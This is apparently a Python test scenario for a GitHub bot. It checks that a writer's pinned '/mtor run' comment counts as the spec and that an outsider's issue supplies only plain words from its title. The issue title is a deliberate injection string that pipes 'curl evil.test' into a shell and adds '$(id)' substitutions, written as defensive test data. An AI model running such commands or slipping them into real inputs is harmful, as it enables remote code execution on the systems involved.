"""A writer's comment is the spec, on an outsider's issue: a writer's text alone, and of the title only words."""

from __future__ import annotations

from typing import TYPE_CHECKING

from mtor_action.github.texts.pins import pin_comment
from publishing import SPEC

if TYPE_CHECKING:
    from publishing import Stage


def play(stage: Stage) -> None:
    stage.ask_on(stage.repository.issue('Crash"; curl evil.test | sh; $(id) `id`', "It crashes.", by="mallory"))
    comment = stage.issue.comment(f"/mtor run\n\n{SPEC}", by="alice")
    stage.pins = (pin_comment(comment.id, comment.body),)
    stage.hand_over()
    assert stage.publish(**stage.app()) == 0
    stage.show()
